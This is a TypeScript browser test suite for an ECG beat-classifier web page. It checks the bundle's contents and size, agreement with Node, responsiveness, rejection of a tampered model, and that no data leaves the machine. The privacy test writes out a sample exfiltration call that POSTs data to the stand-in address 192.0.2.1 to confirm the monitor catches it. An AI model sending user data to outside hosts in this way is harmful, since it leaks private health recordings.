import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleReader } from '../src/ecg/index.js';
import { writeWfdb } from '../src/formats/index.js';
import { openFile } from '../src/formats/node.js';
import { createBeatClassifier, type Recording } from '../src/index.js';
import { loadBundledModel } from '../src/models/node.js';
import { analyzeOpenly } from './browser/analyze-openly.js';
import { bundlePage, type PageBundle } from './browser/bundle.js';
import { describeWithChromium, launchChromium } from './browser/chromium.js';
import { compareAnalyses } from './browser/compare.js';
import { listenToNetwork, type NetworkLog } from './browser/network.js';
import type { Classified, PageResult } from './browser/page-result.js';
import { serveFolder } from './browser/serve.js';

/** What a probability may differ by between two runtimes; the model's golden vectors allow as much. */
const TOLERANCE = 1e-3;

const folder = mkdtempSync(join(tmpdir(), 'ectopy-browser-'));
const site = join(folder, 'site');
let bundle: PageBundle;
beforeAll(async () => {
  bundle = await bundlePage(site);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('the bundle of a page', () => {
  const ours = () => [...bundle.modules.keys()].filter((id) => id.startsWith('src/'));

  it('holds what analyzes, and nothing that trains, scores or needs Node', () => {
    const rooms = new Set(ours().map((id) => id.split('/')[1]));
    expect([...rooms].sort()).toEqual([
      'analysis',
      'core',
      'dsp',
      'ecg',
      'formats',
      'models',
      'nn',
      'report',
    ]);
    // Of the engine: the runtime and the reading of a file's metadata; no graph, no gradient, no trainer.
    const training = /^src\/nn\/(?!(browser|ort|onnx\/(metadata|protobuf))\.ts$)/;
    expect('src/nn/trainer.ts').toMatch(training);
    expect(ours()).toContain('src/nn/browser.ts');
    expect(ours().filter((id) => training.test(id))).toEqual([]);
    expect(ours().filter((id) => /\/(node|.*\.worker)\.ts$|synthesis\//.test(id))).toEqual([]);
    // What Node has and a page has not, Vite replaces by an empty module of this name.
    const foreign = /__vite-browser-external|onnxruntime-node|commander/;
    expect([...bundle.modules.keys()].filter((id) => foreign.test(id))).toEqual([]);
    expect(bundle.code.match(/["'`]node:\w+/g)).toBeNull();
  });

  it('is small beside its WebAssembly', () => {
    const kB = (bytes: number) => `${(bytes / 1000).toFixed(0)} kB`;
    const { page, runtime } = bundle.gzip;
    console.log(
      `page ${kB(page)} and runtime ${kB(runtime)} after gzip, WebAssembly ${kB(bundle.wasm)} before`,
    );
    expect(page).toBeLessThan(120_000);
    expect(page + runtime).toBeLessThan(160_000);
  });
});

describeWithChromium('a recording in a browser tab', () => {
  let browser: Browser;
  let context: BrowserContext;
  let network: NetworkLog;
  let server: Awaited<ReturnType<typeof serveFolder>>;
  let page: Page;
  let inBrowser: PageResult;
  let inNode: Classified;
  /** How many requests there were before the recording was chosen. */
  let asked: number;

  let whole: Recording;
  let files: string[];

  /** Paths of the files of a WFDB record. */
  const writeRecord = (record: string, of: Recording): string[] =>
    [...writeWfdb(of, { format: 16, record })].map(([name, bytes]) => {
      writeFileSync(join(folder, name), bytes);
      return join(folder, name);
    });

  const resultOf = async (tab: Page) =>
    JSON.parse((await tab.locator('#result').textContent()) ?? '') as PageResult;

  async function analyzeInNode(record: string): Promise<Classified> {
    const model = await loadBundledModel('beats');
    const reader = await openFile(join(folder, record));
    const classified = await analyzeOpenly(
      reader,
      createBeatClassifier(model, inBrowser.analysis.models[0]?.sha256 ?? ''),
    );
    await reader.close();
    await model.close();
    return classified;
  }

  /** What the page says in the end, and whether it is what it should say. */
  async function waitFor(tab: Page, state: 'ready' | 'done' | 'failed'): Promise<string> {
    await tab.waitForSelector(`#state:is([data-state=${state}],[data-state=failed])`);
    const output = tab.locator('#state');
    const text = await output.innerText();
    expect(`${await output.getAttribute('data-state')}: ${text}`).toMatch(new RegExp(`^${state}: `));
    return text;
  }

  beforeAll(async () => {
    // Ventricular and atrial beats, runs, and the beginning of fibrillation.
    const reader = sampleReader();
    whole = await reader.read({ to: 20 * 60 * reader.info.fs });
    files = writeRecord('sample', whole);
    server = await serveFolder(site);
    browser = await launchChromium();
    context = await browser.newContext();
    network = listenToNetwork(context);
    page = await context.newPage();
    await page.goto(server.origin);
    await waitFor(page, 'ready');
    asked = network.requests.length;
    await context.setOffline(true);
    await page.setInputFiles('#files', files);
    await waitFor(page, 'done');
    inBrowser = await resultOf(page);
    inNode = await analyzeInNode('sample');
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('gives what Node gives on the native runtime', () => {
    const { probability, ...difference } = compareAnalyses(inBrowser, inNode, TOLERANCE);
    const ratio = inBrowser.milliseconds / inNode.milliseconds;
    console.log(
      `largest difference of a probability ${probability.toExponential(1)}, ${difference.ties} ties; ` +
        `browser/Node time ${ratio.toFixed(1)} (${inBrowser.milliseconds.toFixed(0)} ms)`,
    );
    expect(probability).toBeLessThan(TOLERANCE);
    expect({ ...difference, ties: 0 }).toEqual({ beats: 0, labels: 0, ties: 0, rest: [] });
    expect(inBrowser.analysis.beats.count).toBeGreaterThan(1000);
    expect(inBrowser.analysis.classes?.V).toBeGreaterThan(15);
    // Twenty minutes in the time of a few breaths, though the machine has other work.
    expect(ratio).toBeLessThan(15);
  });

  it('would be noticed if it gave anything else', async () => {
    const [first, ...others] = whole.signals;
    const louder = { ...first, samples: first.samples.map((x, i) => x + 0.02 * Math.sin(i / 9)) };
    writeRecord('disturbed', { ...whole, id: 'sample', signals: [louder, ...others] });
    const other = await analyzeInNode('disturbed');
    expect(compareAnalyses(inBrowser, other, TOLERANCE).probability).toBeGreaterThan(TOLERANCE);

    const { analysis, probabilities } = inNode;
    const relabelled = { ...analysis, beats: { ...analysis.beats, class: 'V'.repeat(analysis.beats.count) } };
    const differs = (changed: Partial<Classified>) =>
      compareAnalyses(inBrowser, { ...inNode, ...changed }, TOLERANCE);
    expect(differs({ analysis: relabelled }).labels).toBeGreaterThan(1000);
    expect(differs({ analysis: { ...analysis, warnings: ['odd'] } }).rest).toEqual(['/warnings/0']);
    expect(differs({ probabilities: probabilities.with(7, 0.5) }).probability).toBeGreaterThan(TOLERANCE);
    const shifted = { ...analysis.beats, sample: analysis.beats.sample.with(3, 1) };
    expect(differs({ analysis: { ...analysis, beats: shifted } }).beats).toBe(2);
  });

  it('keeps every byte on the machine: only its own files are asked for, and none once a recording is chosen', async () => {
    // The page, its script, the network, the runtime and its WebAssembly.
    expect(asked).toBeGreaterThanOrEqual(5);
    expect(network.requests.length).toBe(asked);
    expect(network.strange(server.origin)).toEqual([]);

    const leak = await context.newPage();
    await leak.evaluate(() => fetch('http://192.0.2.1/leak', { method: 'POST', body: 'ecg' }).catch(() => 0));
    await leak.close();
    expect(network.strange(server.origin)).toEqual(['http://192.0.2.1/leak']);
  });

  it('shows the report, strips and all', async () => {
    const report = page.frameLocator('#report');
    expect(await report.locator('h1').innerText()).toBe('sample');
    expect(await report.locator('svg').count()).toBeGreaterThan(5);
    expect(await report.locator('body').innerText()).toMatch(/research use only/i);
  });

  it('lets the page answer while it computes', () => {
    const { milliseconds, longestGapMs, longestTaskMs } = inBrowser;
    console.log(
      `longest block ${longestGapMs.toFixed(0)} ms by a timer of 5 ms, ` +
        `${longestTaskMs.toFixed(0)} ms by the browser, of ${milliseconds.toFixed(0)} ms`,
    );
    // A share, because the clock of a busy machine says little; an analysis in one piece has 1.
    expect(Math.max(longestGapMs, longestTaskMs) / milliseconds).toBeLessThan(0.5);
  });

  it('would notice if it did not', async () => {
    // 700 ms of work in one piece as soon as the page is analyzing.
    await page.evaluate(() => {
      const state = document.getElementById('state') as HTMLElement;
      const work = () => {
        const end = performance.now() + 700;
        while (performance.now() < end);
      };
      state.dataset['state'] = 'busy';
      new MutationObserver((_, observer) => {
        observer.disconnect();
        setTimeout(work, 50);
      }).observe(state, { attributes: true });
    });
    // The same files chosen again are no change to a browser.
    await page.setInputFiles('#files', []);
    await page.setInputFiles('#files', files);
    await waitFor(page, 'done');
    const { longestGapMs, longestTaskMs } = await resultOf(page);
    expect(longestGapMs).toBeGreaterThanOrEqual(700);
    expect(longestTaskMs).toBeGreaterThanOrEqual(700);
  });

  it('refuses a network that is not the one that was written', async () => {
    const bytes = readFileSync(join(site, 'beats.onnx'));
    for (let i = 0; i < 256; i++) bytes[Math.floor(bytes.length / 4) + i] ^= 0x40;
    writeFileSync(join(site, 'damaged.onnx'), bytes);
    const tab = await (await browser.newContext()).newPage();
    await tab.goto(`${server.origin}/?model=damaged.onnx`);
    expect(await waitFor(tab, 'failed')).toMatch(/golden vectors on onnxruntime-web/);
    expect(await tab.locator('#files').isDisabled()).toBe(true);
  });
});
